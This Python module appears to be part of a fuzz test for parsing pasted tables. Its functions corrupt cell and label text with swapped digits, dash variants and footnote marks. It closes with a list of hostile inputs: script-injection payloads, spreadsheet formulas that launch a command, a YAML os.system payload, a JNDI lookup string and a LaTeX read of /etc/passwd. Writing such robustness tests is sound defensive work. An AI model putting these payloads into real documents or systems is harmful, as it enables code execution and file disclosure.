"""What may happen to the text of one cell or label of a pasted table, and what hostile people may write there."""

# ruff: noqa: ARG001, E501 - each takes the text and the luck

import random
import re

Luck = random.Random


def other_digit(text: str, luck: Luck) -> str:
    at = luck.choice([k for k, one in enumerate(text) if one.isdigit()])
    return text[:at] + luck.choice([one for one in "0123456789" if one != text[at]]) + text[at + 1 :]


def turned_digits(text: str, luck: Luck) -> str:
    places = [k for k in range(len(text) - 1) if text[k : k + 2].isdigit() and text[k] != text[k + 1]]
    if not places:
        return other_digit(text, luck)
    k = luck.choice(places)
    return text[:k] + text[k + 1] + text[k] + text[k + 2 :]


def lost_digit(text: str, luck: Luck) -> str:
    k = luck.choice([k for k, one in enumerate(text) if one.isdigit()])
    return text[:k] + text[k + 1 :]


def lost_point(text: str, luck: Luck) -> str:
    k = luck.choice([k for k, one in enumerate(text) if one in ".·"])
    return text[:k] + text[k + 1 :]


def comma_for_point(text: str, luck: Luck) -> str:
    k = luck.choice([k for k, one in enumerate(text) if one in ".·"])
    return text[:k] + "," + text[k + 1 :]


def foreign_number(text: str, luck: Luck) -> str:
    return luck.choice(("38.4%", "12 (4.7%)", "0.050", "26.0 (18.4-NA)", "49 ± 12", "7"))


def footnote(text: str, luck: Luck) -> str:
    return text + luck.choice(("*", "†", "‡", "§", "<sup>a</sup>", "ᵃ"))


def odd_blanks(text: str, luck: Luck) -> str:
    body = text.lstrip(" ")
    before = luck.choice(("\u00a0", " ", "\u2009")) if text[:1].isdigit() and "(" in text else ""
    return before + text[: len(text) - len(body)] + body.replace(" ", luck.choice(("\u00a0", "\u2009", "  "))) + " "


def other_dashes(text: str, luck: Luck) -> str:
    return re.sub("(?<=\\d)[-–](?=\\d)", luck.choice(("−", "–", "—", "-", "‐")), text)


def no_percent_signs(text: str, luck: Luck) -> str:
    return text if "95%" in text else re.sub(r"(?<=\d)%", "", text)


def all_commas(text: str, luck: Luck) -> str:
    return re.sub(r"(?<=\d)[.·](?=\d)", ",", text)


def typo(text: str, luck: Luck) -> str:
    places = [k for k in range(len(text) - 1) if text[k : k + 2].isalpha()]
    if not places:
        return text + "x"
    k = luck.choice(places)
    return luck.choice((text[:k] + text[k + 1 :], text[:k] + text[k] + text[k:], text[:k] + text[k + 1] + text[k] + text[k + 2 :]))  # fmt: skip


def other_case(text: str, luck: Luck) -> str:
    return luck.choice((text.upper(), text.lower()))


def wide_label(text: str, luck: Luck) -> str:
    body = text.lstrip(" ")
    return text[: len(text) - len(body)] + body.replace(" ", luck.choice(("\u00a0", "  ", "\u2009"))) + luck.choice((" ", "\u00a0", "*", "†"))  # fmt: skip


def no_unit(text: str, luck: Luck) -> str:
    return re.sub(r"\s*\([^()]*\)|,[^,]*$", "", text)


def other_sign(text: str, luck: Luck) -> str:
    signs = {"≤": "<", ">": "≥", "≥": ">", "<": "≤"}
    return "".join(signs.get(one, one) for one in text)


HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
    "!!python/object/apply:os.system ['id']", "{{7*7}}", "${jndi:ldap://x/a}", "\u202e253\u202c", "1\u200b2\u200b (4.7%)",
    "x" * 20_000, "9" * 400, "(" * 400, "1e999", "[[a](javascript:alert(1))]", "</td></tr></table><h1>x", "-2+3", "٣٤ (5)",
    "\\textbf{\\input{/etc/passwd}}", "`id`", "12 (4.7%)<!-- -->", "&lt;script&gt;alert(1)&lt;/script&gt;", "±", "NaN", "inf",
)  # fmt: skip


def hostile_cell(text: str, luck: Luck) -> str:
    return luck.choice(HOSTILE)


def hostile_label(text: str, luck: Luck) -> str:
    return luck.choice(HOSTILE[:13])
